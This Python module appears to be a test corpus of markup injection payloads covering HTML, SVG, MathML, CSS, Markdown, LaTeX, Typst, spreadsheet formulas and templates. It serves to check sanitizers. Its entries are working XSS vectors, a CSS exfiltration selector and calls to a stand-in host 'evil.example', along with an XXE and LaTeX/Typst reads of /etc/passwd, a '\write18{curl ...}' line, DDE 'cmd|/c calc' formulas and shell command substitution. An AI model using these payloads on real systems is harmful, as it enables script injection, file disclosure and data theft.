"""A corpus of injections: what markup of every kind would run, request or lead away if it were taken for code.

``HIT`` stands for a script that leaves a trace, ``EVIL`` for an address that would be asked.
"""

from __future__ import annotations

HIT = "window.hacked=1"
EVIL = "https://evil.example/x"

_HTML = (
    """
<script>HIT</script>
<SCRIPT SRC=EVIL></SCRIPT>
<script src="data:text/javascript,HIT"></script>
<script type=module>HIT</script>
<scr<script>ipt>HIT</scr</script>ipt>
<script/x>HIT</script/x>
<script\x0c>HIT</script>
<img src=x onerror=HIT>
<img src=x onerror="HIT" alt="
<img src="EVIL">
<img srcset="EVIL 1x">
<img src=x:x onerror&#61;HIT>
<IMG """
    + '"""><SCRIPT>HIT</SCRIPT>"'
    + """\\>
<img/src=x/onerror=HIT>
<img src=`x` onerror=HIT>
<picture><source srcset="EVIL"><img></picture>
<body onload=HIT>
<body background="EVIL">
<input autofocus onfocus=HIT>
<input type=image src=EVIL formaction="javascript:HIT">
<select autofocus onfocus=HIT>
<textarea autofocus onfocus=HIT>
<keygen autofocus onfocus=HIT>
<video src=EVIL autoplay onerror=HIT></video>
<video poster="EVIL"></video>
<video><source onerror="HIT"></video>
<audio src=EVIL onerror=HIT>
<details open ontoggle=HIT><summary>s</summary></details>
<marquee onstart=HIT>m</marquee>
<div onmouseover="HIT" style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>
<div onclick=HIT>click</div>
<a href="javascript:HIT">link</a>
<a href="JaVaScRiPt:HIT">link</a>
<a href=" javascript:HIT">link</a>
<a href="java&#x0A;script:HIT">link</a>
<a href="java&Tab;script:HIT">link</a>
<a href="&#106;avascript:HIT">link</a>
<a href="vbscript:HIT">link</a>
<a href="data:text/html,<script>HIT</script>">link</a>
<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=">link</a>
<a href="EVIL" ping="EVIL">link</a>
<a href=x target=_top onclick=HIT>link</a>
<area href="javascript:HIT">
<base href="EVIL">
<link rel=stylesheet href="EVIL">
<link rel=icon href="EVIL">
<link rel=prefetch href="EVIL">
<link rel=preconnect href="EVIL">
<link rel=import href="EVIL">
<meta http-equiv=refresh content="0;url=EVIL">
<meta http-equiv=refresh content="0;url=javascript:HIT">
<meta http-equiv="Set-Cookie" content="a=b">
<iframe src="EVIL"></iframe>
<iframe src="javascript:HIT"></iframe>
<iframe srcdoc="<script>parent.HIT</script>"></iframe>
<frameset><frame src="javascript:HIT"></frameset>
<object data="EVIL"></object>
<object data="javascript:HIT"></object>
<object data="data:text/html,<script>HIT</script>"></object>
<embed src="EVIL">
<embed src="javascript:HIT">
<applet code="EVIL"></applet>
<form action="javascript:HIT"><input type=submit></form>
<form action="EVIL"><button>send</button></form>
<form id=x></form><button form=x formaction="javascript:HIT">b</button>
<isindex action="javascript:HIT" type=image>
<template><script>HIT</script></template>
<noscript><p title="</noscript><img src=x onerror=HIT>"></noscript>
<xmp><p title="</xmp><img src=x onerror=HIT>"></xmp>
<textarea></textarea><script>HIT</script>
<title></title><script>HIT</script>
</title><script>HIT</script>
</style><script>HIT</script>
--><script>HIT</script>
<!--><script>HIT</script>
<![CDATA[<script>HIT</script>]]>
<?xml-stylesheet href="EVIL"?>
<? echo HIT ?>
<div id=hacked name=hacked></div><a id=hacked></a>
<dialog open onclose=HIT><form method=dialog><button>b</button></form></dialog>
<portal src=EVIL></portal>
<x onclick=HIT tabindex=1 id=x onfocus=HIT autofocus>x</x>
<p style="animation:x" onanimationstart=HIT>p</p>
<table background="EVIL"><td background="EVIL">t</td></table>
<button popovertarget=x>b</button><div popover id=x onbeforetoggle=HIT>x</div>
<input type=hidden oncontentvisibilityautostatechange=HIT style=content-visibility:auto>
"""
)
_SVG = """
<svg onload=HIT></svg>
<svg><script>HIT</script></svg>
<svg><script href="data:text/javascript,HIT"/></svg>
<svg><script xlink:href="EVIL"/></svg>
<svg><image href="EVIL"/></svg>
<svg><image xlink:href="EVIL" xmlns:xlink="http://www.w3.org/1999/xlink"/></svg>
<svg><use href="EVIL#x"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>HIT</script></svg>#x"/></svg>
<svg><a xlink:href="javascript:HIT" xmlns:xlink="http://www.w3.org/1999/xlink"><text y=20>t</text></a></svg>
<svg><a href="javascript:HIT"><rect width=100 height=100 /></a></svg>
<svg><animate onbegin=HIT attributeName=x dur=1s></svg>
<svg><set onbegin=HIT attributeName=x to=1 /></svg>
<svg><a><animate attributeName=href values="javascript:HIT"/><text y=20>t</text></a></svg>
<svg><foreignObject><iframe src="javascript:HIT"/></foreignObject></svg>
<svg><foreignObject><body onload=HIT xmlns="http://www.w3.org/1999/xhtml"/></foreignObject></svg>
<svg><style>@import "EVIL";</style></svg>
<svg><style>*{fill:url(EVIL)}</style></svg>
<svg><rect fill="url(EVIL#p)" width=9 height=9 /></svg>
<svg><filter id=f><feImage href="EVIL"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>
<svg><desc><![CDATA[</desc><script>HIT</script>]]></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=HIT>"></svg>
<svg><title><style><img src=x onerror=HIT></style></title></svg>
<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>
<svg><discard onbegin=HIT /></svg>
"""
_MATHML = """
<math href="javascript:HIT">m</math>
<math><mi xlink:href="javascript:HIT">m</mi></math>
<math><maction actiontype="statusline#EVIL" xlink:href="javascript:HIT">m<mtext>x</mtext></maction></math>
<math><mtext><img src=x onerror=HIT></mtext></math>
<math><annotation-xml encoding="text/html"><script>HIT</script></annotation-xml></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=HIT></style></mglyph></form></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">
<math><mglyph src="EVIL"/></math>
"""
_CSS = """
<style>@import url(EVIL);</style>
<style>body{background:url(EVIL)}</style>
<style>@font-face{font-family:x;src:url(EVIL)}*{font-family:x}</style>
<style>input[value^=a]{background:url(EVIL)}</style>
<p style="background:url(EVIL)">p</p>
<p style="background-image:image-set('EVIL' 1x)">p</p>
<p style="list-style:url('EVIL')">p</p>
<p style="width:expression(HIT)">p</p>
<p style="-moz-binding:url(EVIL#x)">p</p>
<p style="behavior:url(EVIL)">p</p>
<p style="content:url(EVIL)">p</p>
<p style="cursor:url(EVIL),auto">p</p>
<p style="filter:url(EVIL#f)">p</p>
<p style="mask:url(EVIL)">p</p>
<p style="border-image:url(EVIL) 1">p</p>
<p style="color:red;}</style><script>HIT</script>">p</p>
<p style="\\62 ackground:url(EVIL)">p</p>
<p style="background:u\\72l(EVIL)">p</p>
<p style="--x:url(EVIL);background:var(--x)">p</p>
<p style="position:fixed;inset:0;z-index:9999">p</p>
"""
_MARKDOWN = """
[link](javascript:HIT)
[link](<javascript:HIT>)
[link](JAVASCRIPT:HIT)
[link](java&#x0a;script:HIT)
[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[link](vbscript:HIT)
[link](EVIL "title\\" onmouseover=HIT")
![image](EVIL)
![image](javascript:HIT)
![image](x "\\" onerror=HIT")
![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93LmhhY2tlZD0xPg==)
<javascript:HIT>
[x]: javascript:HIT
[ref][x]
`</code><script>HIT</script>`
**<img src=x onerror=HIT>**
[^1]: <script>HIT</script>
| a | <img src=x onerror=HIT> |
> <iframe src=EVIL>
# <script>HIT</script> {onclick=HIT}
[a](file:///etc/passwd)
"""
_LATEX = r"""
$\href{javascript:HIT}{x}$
$\url{javascript:HIT}$
$\includegraphics{EVIL}$
$\input{/etc/passwd}$
$\text{<script>HIT</script>}$
$\class{x" onclick="HIT}{y}$
$\style{background:url(EVIL)}{x}$
$\html{<img src=x onerror=HIT>}$
$\unicode{x3c}script>HIT$
$\write18{curl EVIL}$
$$\begin{array}{<script>HIT</script>}1\end{array}$$
$\def\x{\x}\x$
$<img src=x onerror=HIT>$
"""
_TYPST = r"""
#import "EVIL": *
#include "/etc/passwd"
#read("/etc/passwd")
#panic("x")
#link("javascript:HIT")[x]
#image("EVIL")
#eval("1 + 1")
#{ while true {} }
"]); #panic("x"); #text("
\u{22}); #read("/etc/passwd")
$ #read("/etc/passwd") $
#sys.inputs
@preview/evil:0.1.0
"""
_OTHER = """
=HYPERLINK("EVIL","x")
=cmd|'/c calc'!A1
+1+cmd|'/c calc'!A1
-2+3+cmd|'/c calc'!A1
@SUM(1+1)*cmd|'/c calc'!A1
=WEBSERVICE("EVIL")
=IMPORTXML("EVIL","//a")
{{ 7*7 }}{{ config.items() }}
{% include "/etc/passwd" %}
${7*7} #{7*7} <%= 7*7 %>
{0.__class__.__mro__}
%s%s%n%x
$(touch /tmp/hacked) `id`
"><script>HIT</script>
'><script>HIT</script>
';HIT;//
"};HIT;//
</script><script>HIT</script>
\\u003cscript\\u003eHIT\\u003c/script\\u003e
&lt;script&gt;HIT&lt;/script&gt;
&#60;script&#62;HIT&#60;/script&#62;
javascript:HIT
x" onmouseover="HIT
x' onmouseover='HIT
\ufeff<script>HIT</script>
＜script＞HIT＜/script＞
\u202e<script>HIT</script>
"""


def _list(text: str) -> list[str]:
    return [line.replace("HIT", HIT).replace("EVIL", EVIL) for line in text.split("\n") if line.strip()]


KINDS: dict[str, list[str]] = {
    name: _list(text)
    for name, text in (
        ("html", _HTML), ("svg", _SVG), ("mathml", _MATHML), ("css", _CSS), ("markdown", _MARKDOWN),
        ("latex", _LATEX), ("typst", _TYPST), ("other", _OTHER),
    )
}  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(payload for found in KINDS.values() for payload in found)
